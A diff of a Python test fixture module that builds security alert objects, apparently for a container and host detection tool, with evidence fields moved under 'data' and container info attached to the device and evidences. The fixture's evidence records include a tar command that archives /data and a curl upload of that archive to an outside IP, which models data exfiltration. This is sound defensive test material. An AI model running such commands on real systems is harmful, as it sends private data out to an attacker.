@@ -31,9 +31,13 @@ def _base(uid: str = FINDING) -> dict[str, Any]:
         },
         "evidences": [
             {
-                "time": 1764236470000,
-                "data": {"signal": "archive", "tool": "tar", "explanation": "tar created"},
-                "raw_ref": {"source": "tetragon", "path": "events.jsonl", "line": 1},
+                "data": {
+                    "time": 1764236470000,
+                    "signal": "archive",
+                    "tool": "tar",
+                    "explanation": "tar created",
+                    "raw_ref": {"source": "tetragon", "path": "events.jsonl", "line": 1},
+                },
                 "process": {
                     "pid": 4112,
                     "cmd_line": "tar -czf /tmp/archive.tar.gz /data",
@@ -43,9 +47,13 @@ def _base(uid: str = FINDING) -> dict[str, Any]:
                 "file": {"path": "/tmp/archive.tar.gz"},
             },
             {
-                "time": 1764236530000,
-                "data": {"signal": "upload", "tool": "curl", "explanation": "curl sent it"},
-                "raw_ref": {"source": "tetragon", "path": "events.jsonl", "line": 2},
+                "data": {
+                    "time": 1764236530000,
+                    "signal": "upload",
+                    "tool": "curl",
+                    "explanation": "curl sent it",
+                    "raw_ref": {"source": "tetragon", "path": "events.jsonl", "line": 2},
+                },
                 "process": {
                     "pid": 4120,
                     "cmd_line": "curl -T /tmp/archive.tar.gz https://203.0.113.9/",
@@ -56,27 +64,37 @@ def _base(uid: str = FINDING) -> dict[str, Any]:
         ],
         "status_id": 1,
         "status": "New",
-        "device": {"hostname": "node-1"},
+        "device": {"type_id": 0, "hostname": "node-1"},
     }
+
+
+def _put(alert: dict[str, Any], container: dict[str, Any]) -> None:
+    """Where tidewaiter puts the container: the device's (the host is known) and each evidence's."""
+    alert["device"]["container"] = container
+    for evidence in alert["evidences"]:
+        evidence["container"] = container
 
 
 def pod(namespace: str = "payments", name: str = "api-7d9f8b6c5-x2kqz") -> dict[str, Any]:
     alert = _base()
-    alert["container"] = {
-        "uid": CONTAINER,
-        "name": "api",
-        "image": {"name": "registry.example.com/payments/api:1.42.0"},
-        "runtime": "containerd",
-    }
+    _put(
+        alert,
+        {
+            "uid": CONTAINER,
+            "name": "api",
+            "image": {"name": "registry.example.com/payments/api:1.42.0"},
+            "runtime": "containerd",
+        },
+    )
     alert["unmapped"] = {"k8s": {"namespace": namespace, "pod": name}}
     return alert
 
 
 def container(uid: str = CONTAINER[:31], image: str | None = None) -> dict[str, Any]:
     alert = _base()
-    alert["container"] = {"uid": uid, "name": "stager"}
+    _put(alert, {"uid": uid, "name": "stager"})
     if image:
-        alert["container"]["image"] = {"name": image}
+        alert["device"]["container"]["image"] = {"name": image, "uid": image}
     return alert
 
 
@@ -84,7 +102,7 @@ def host(windows: bool = False) -> dict[str, Any]:
     alert = _base()
     if windows:
         alert["evidences"][1]["process"]["file"]["path"] = r"C:\Windows\System32\curl.exe"
-        alert["evidences"][1]["raw_ref"]["source"] = "sysmon-evtx"
+        alert["evidences"][1]["data"]["raw_ref"]["source"] = "sysmon-evtx"
     return alert
 
 
